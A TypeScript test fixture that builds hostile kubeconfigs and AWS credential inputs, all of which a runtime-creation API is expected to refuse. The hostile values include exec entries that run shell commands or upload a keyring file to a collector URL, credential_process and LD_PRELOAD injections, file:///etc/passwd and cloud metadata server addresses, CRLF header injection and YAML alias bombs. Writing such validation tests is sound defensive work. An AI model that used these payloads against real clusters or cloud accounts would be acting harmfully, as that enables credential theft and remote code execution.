import type { RuntimeRequest } from '../../../src/client/index.ts';
import type { HostileInput, HostileTarget } from '../input.ts';

let count = 0;
const runtime = (
  why: string,
  make: (target: HostileTarget) => Partial<RuntimeRequest>,
  outcome: HostileInput['outcome'] = 'refused',
): HostileInput[] => {
  const toRequest = (target: HostileTarget): RuntimeRequest => ({
    name: `hostile-${Math.random().toString(36).slice(2, 10)}`,
    provider: 'kubernetes',
    zone: 'default',
    ...make(target),
  });
  // Each by one of the two ways, some by both: what they share is more than what they do not.
  count += 1;
  if (count % 3 !== 0) {
    return [
      {
        name: `runtime create: ${why}`,
        outcome,
        send: (target) => target.client.runtimes.create(toRequest(target)),
      },
    ];
  }
  return [
    {
      name: `runtime create: ${why}`,
      outcome,
      send: (target) => target.client.runtimes.create(toRequest(target)),
    },
    {
      name: `runtime zones: ${why}`,
      outcome,
      send: (target) => target.client.runtimes.zones(toRequest(target)),
    },
  ];
};

interface KubeParts {
  readonly server?: string;
  readonly user?: string;
  readonly cluster?: string;
  readonly more?: string;
}

const kubeconfig = ({
  server = 'https://127.0.0.1:1',
  user = '{ token: t }',
  cluster = '',
  more = '',
}: KubeParts): string =>
  `apiVersion: v1
kind: Config
clusters: [ { name: c, cluster: { server: "${server}"${cluster} } } ]
users: [ { name: u, user: ${user} } ]
contexts: [ { name: x, context: { cluster: c, user: u } } ]
current-context: x
${more}`;

const kube = (why: string, make: (target: HostileTarget) => KubeParts | string): HostileInput[] =>
  runtime(`a kubeconfig with ${why}`, (target) => {
    const parts = make(target);
    return { credential: typeof parts === 'string' ? parts : kubeconfig(parts) };
  });

const exec = (command: string, args: string, env = '[]'): KubeParts => ({
  user: `{ exec: { apiVersion: client.authentication.k8s.io/v1, interactiveMode: Never, command: ${command}, args: ${args}, env: ${env} } }`,
});

const KUBECONFIGS: readonly HostileInput[] = [
  ...kube('a program that uploads the keys', ({ collector, keyringFile }) =>
    exec(
      'aws',
      `[s3api, put-object, --endpoint-url, "${collector.httpUrl}", --no-sign-request, --body, "${keyringFile}"]`,
    ),
  ),
  ...kube('a shell', () => exec('/bin/sh', '["-c", "id"]')),
  ...kube('a program by its path', () => exec('../../bin/sh', '[]')),
  ...kube('a whole known form and one argument more', ({ collector }) =>
    exec('aws', `[eks, get-token, --cluster-name, x, --endpoint-url, "${collector.httpUrl}"]`),
  ),
  ...kube('a complete known form that is not allowed', () =>
    exec('aws', '[eks, get-token, --cluster-name, x]'),
  ),
  ...kube('variables that name a configuration', ({ files }) =>
    exec(
      'aws',
      '[sts, get-caller-identity]',
      `[{ name: AWS_CONFIG_FILE, value: "${files.writeFile('aws', '[default]\ncredential_process = /bin/sh -c id')}" }]`,
    ),
  ),
  ...kube('LD_PRELOAD', () =>
    exec('aws-iam-authenticator', '[token, -i, x]', '[{ name: LD_PRELOAD, value: /tmp/x.so }]'),
  ),
  ...kube('a token-file', ({ collector, keyringFile }) => ({
    server: collector.httpUrl.replace('http:', 'https:'),
    user: `{ token-file: "${keyringFile}" }`,
  })),
  ...kube('a tokenFile', ({ keyringFile }) => ({ user: `{ tokenFile: "${keyringFile}" }` })),
  ...kube('a token-file that is a pipe', ({ pipe }) => ({ user: `{ token-file: "${pipe}" }` })),
  ...kube('a token-file of a user that no context names', ({ pipe }) => ({
    more: `users: [ { name: u, user: { token: t } }, { name: v, user: { token-file: "${pipe}" } } ]`,
  })),
  ...kube('a client certificate that is a file', ({ keyringFile }) => ({
    user: `{ client-certificate: "${keyringFile}", client-key: "${keyringFile}" }`,
  })),
  ...kube('a CA that is a pipe', ({ pipe }) => ({ cluster: `, certificate-authority: "${pipe}"` })),
  ...kube('an auth-provider', () => ({
    user: '{ auth-provider: { name: gcp, config: { cmd-path: /bin/sh, cmd-args: "-c id" } } }',
  })),
  ...kube('a proxy', ({ collector }) => ({ cluster: `, proxy-url: "${collector.httpUrl}"` })),
  ...kube('verification switched off', () => ({ cluster: ', insecure-skip-tls-verify: true' })),
  ...kube('plain http', ({ collector }) => ({ server: collector.httpUrl.replace('127.0.0.1', '192.0.2.1') })),
  ...kube('a server that is a file', () => ({ server: 'file:///etc/passwd' })),
  ...kube('a server with a password', ({ plant }) => ({ server: `https://u:${plant()}@127.0.0.1:1` })),
  ...kube('a server that is the metadata service', () => ({ server: 'https://169.254.169.254' })),
  ...kube(
    'an alias bomb',
    () =>
      `a: &a [x,x,x,x,x,x,x,x,x]\n${Array.from({ length: 12 }, (_, index) => `b${index}: &b${index} [${Array.from({ length: 9 }, () => (index === 0 ? '*a' : `*b${index - 1}`)).join(',')}]`).join('\n')}\n${kubeconfig({})}`,
  ),
  ...kube('a merge key that brings a program', () => ({
    user: '{ <<: { exec: { command: sh } }, token: t }',
  })),
  ...kube(
    'two documents',
    () => `${kubeconfig({})}\n---\n${kubeconfig({ user: '{ exec: { command: sh } }' })}`,
  ),
  ...kube(
    'a key that occurs twice',
    () => `${kubeconfig({})}users: [ { name: u, user: { exec: { command: sh } } } ]\n`,
  ),
  ...kube('a tag', () => ({ user: '{ token: !!binary "!!!" }' })),
  ...kube('a token with a line break', () => ({ user: '{ token: "a\\r\\nX-Injected: 1" }' })),
  ...kube('a nesting of 5,000', () => `${kubeconfig({})}x: ${'['.repeat(5_000)}${']'.repeat(5_000)}\n`),
  ...kube('40 KB', ({ plant }) => ({ user: `{ token: "${plant()}${'x'.repeat(40_000)}" }` })),
  ...kube('200 KB', ({ plant }) => ({ user: `{ token: "${plant()}${'x'.repeat(200_000)}" }` })),
  ...kube('31 KB and an address that does not answer', ({ plant }) => ({
    user: `{ token: "${plant()}${'x'.repeat(31_000)}" }`,
  })),
  ...kube('nothing', () => ' '),
  ...kube('bytes', () => '\u0000\u0001\u0002'),
  ...kube('only a document end', () => '...\n'),
  ...kube('no context', () => 'apiVersion: v1\nkind: Config\n'),
];

const aws = (
  why: string,
  make: (target: HostileTarget) => { credential?: string; url?: string; settings?: Record<string, string> },
): HostileInput[] =>
  runtime(`an AWS account with ${why}`, (target) => ({
    provider: 'aws',
    zone: 'us-east-1a',
    ...make(target),
  }));

const KEYS = JSON.stringify({ accessKeyId: 'AKIAEXAMPLE', secretAccessKey: 'x'.repeat(40) });

const ACCOUNTS: readonly HostileInput[] = [
  ...aws('the identity of the worker', ({ collector }) => ({ credential: '{}', url: collector.httpUrl })),
  ...aws('the identity of the worker and no address', () => ({ credential: '{}' })),
  ...aws('no credential', ({ collector }) => ({ url: collector.httpUrl })),
  ...aws('a web identity file', ({ collector, keyringFile }) => ({
    credential: JSON.stringify({
      webIdentityTokenFile: keyringFile,
      roleArn: 'arn:aws:iam::123456789012:role/x',
    }),
    url: collector.httpUrl,
  })),
  ...aws('a web identity file that is a pipe', ({ pipe }) => ({
    credential: JSON.stringify({ webIdentityTokenFile: pipe, roleArn: 'arn:aws:iam::123456789012:role/x' }),
  })),
  ...aws('a profile', ({ collector }) => ({
    credential: JSON.stringify({ profile: 'default' }),
    url: collector.httpUrl,
  })),
  ...aws('a process', () => ({ credential: JSON.stringify({ credential_process: '/bin/sh -c id' }) })),
  ...aws('an unknown key', ({ plant }) => ({
    credential: JSON.stringify({ accessKeyId: 'a', secretAccessKey: 'b', password: plant() }),
  })),
  ...aws('keys that are lists', ({ plant }) => ({
    credential: JSON.stringify({ accessKeyId: [plant()], secretAccessKey: {} }),
  })),
  ...aws('an access key with a line break', () => ({
    credential: JSON.stringify({ accessKeyId: 'a\r\nb', secretAccessKey: 'b' }),
  })),
  ...aws('a credential of 200 KB', ({ plant }) => ({
    credential: JSON.stringify({ accessKeyId: 'a', secretAccessKey: plant() + 'x'.repeat(200_000) }),
  })),
  ...aws('an unknown setting', ({ plant }) => ({ credential: KEYS, settings: { secretKey: plant() } })),
  ...aws('__proto__ as a setting', ({ plant }) => ({
    credential: KEYS,
    settings: JSON.parse(`{"__proto__":"${plant()}"}`) as Record<string, string>,
  })),
  ...aws('a setting of 1 MB', () => ({ credential: KEYS, settings: { image: 'x'.repeat(1_000_000) } })),
  ...[
    'http://192.0.2.1:9',
    'ftp://127.0.0.1',
    'file:///etc/passwd',
    'javascript:1',
    'http://',
    'not an address',
    'http://127.0.0.1:99999',
    'http://[::1',
    'gopher://127.0.0.1',
    'http://169.254.169.254/latest',
    'http://metadata.google.internal',
    'http://127.0.0.1:9\r\nX: 1',
    `http://127.0.0.1/${'a'.repeat(100_000)}`,
  ]
    .map((url) => aws(`the address ${JSON.stringify(url.slice(0, 40))}`, () => ({ credential: KEYS, url })))
    .flat(),
  ...aws('a password in the address', ({ plant }) => ({
    credential: KEYS,
    url: `https://u:${plant()}@127.0.0.1:9`,
  })),
  ...aws('a user in the address', ({ plant }) => ({
    credential: KEYS,
    url: `https://${plant()}@127.0.0.1:9`,
  })),
];

const OTHERS: readonly HostileInput[] = [
  ...runtime('a provider that is not there', () => ({ provider: 'nope' })),
  ...runtime('__proto__ as the provider', () => ({ provider: '__proto__' })),
  ...runtime('an empty provider', () => ({ provider: '' })),
  ...runtime('a credential for local, which takes none', ({ plant }) => ({
    provider: 'local',
    zone: 'local-1',
    credential: JSON.stringify({ password: plant() }),
  })),
  ...runtime('a password in the address of local', ({ plant }) => ({
    provider: 'local',
    zone: 'local-1',
    url: `https://u:${plant()}@127.0.0.1`,
  })),
  ...runtime('an address range of everything', () => ({
    provider: 'local',
    zone: 'local-1',
    settings: { addressRange: '0.0.0.0/0' },
  })),
  ...runtime('an address range that is an option', () => ({
    provider: 'local',
    zone: 'local-1',
    settings: { addressRange: '--help' },
  })),
  ...runtime('an unknown setting of local', ({ plant }) => ({
    provider: 'local',
    zone: 'local-1',
    settings: { password: plant() },
  })),
  ...runtime('a zone of 1 MB', () => ({ provider: 'local', zone: 'x'.repeat(1_000_000) })),
  ...runtime('a zone with a line break', () => ({ provider: 'local', zone: 'a\nb' })),
  ...['a\nb', '-x', '../x', '', 'a'.repeat(300), '\u0000']
    .map((name) =>
      runtime(`the name ${JSON.stringify(name.slice(0, 20))}`, () => ({
        provider: 'local',
        zone: 'local-1',
        name,
      })),
    )
    .flat(),
];

export const CREDENTIAL_INPUTS: readonly HostileInput[] = [...KUBECONFIGS, ...ACCOUNTS, ...OTHERS];
